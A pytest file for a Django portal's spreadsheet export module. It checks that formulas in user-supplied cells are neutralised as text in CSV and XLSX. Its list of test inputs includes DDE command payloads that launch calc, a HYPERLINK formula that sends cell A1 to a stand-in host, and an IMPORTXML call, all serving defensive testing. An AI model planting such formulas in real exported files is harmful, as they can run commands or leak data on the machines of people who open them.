"""Spreadsheets: fourteen formulas, in every cell that people can fill, are text in CSV and in XLSX."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings

from portail.commun import tableur

FORMULES = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://exemple.invalid/?"&A1;"clic")',
    '=IMPORTXML("http://exemple.invalid";"//a")',
    "+1+1",
    "+33611223344",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff20SUM(1)",
]


@pytest.mark.parametrize("formule", FORMULES)
def test_a_formula_is_text_in_csv(formule):
    octets = tableur.en_csv([formule], [[formule]])
    for ligne in csv.reader(io.StringIO(octets.decode("utf-8-sig"), newline=""), delimiter=";"):
        assert ligne == [f"'{formule}"]


@pytest.mark.parametrize("formule", [*FORMULES, "http://exemple.invalid", "mailto:x@exemple.fr", "0123"])
def test_a_formula_is_text_in_xlsx_and_is_read_back_as_it_was(formule):
    classeur = openpyxl.load_workbook(io.BytesIO(tableur.en_xlsx("Essai", [formule], [[formule]])))
    for (cellule,) in classeur.active.iter_rows():
        assert cellule.data_type == "s"
        assert cellule.hyperlink is None
        assert cellule.value.replace("_x000D_", "\r") == formule


def test_numbers_and_dates_are_numbers_and_dates():
    ligne = [Decimal("-5.25"), 3, date(2018, 1, 15), datetime(2018, 1, 15, 11, tzinfo=UTC), None, True, "Été"]
    octets = tableur.en_csv(["x"] * 7, [ligne])
    assert octets.decode("utf-8-sig").splitlines()[1] == '"-5,25";"3";"15/01/2018";"15/01/2018 12:00";"";"oui";"Été"'
    lue = next(
        openpyxl.load_workbook(io.BytesIO(tableur.en_xlsx("x/y", ["x"] * 7, [ligne]))).active.iter_rows(
            min_row=2, values_only=True
        )
    )
    assert lue[:4] == (-5.25, 3, datetime(2018, 1, 15), datetime(2018, 1, 15, 12))  # noqa: DTZ001 - wall clock


def test_spreadsheets_are_written_here_only():
    """An export made elsewhere would have to neutralise formulas by itself."""
    ecrivains = [
        str(module.relative_to(settings.BASE_DIR))
        for module in Path(settings.BASE_DIR).glob("[a-z]*/**/*.py")
        if module.relative_to(settings.BASE_DIR).parts[0] not in {"tests", "bench", "bin", "var"}
        and any(mot in module.read_text() for mot in ("csv.writer", "DictWriter", "xlsxwriter", "openpyxl.Workbook"))
    ]
    assert ecrivains == ["portail/commun/tableur.py"]
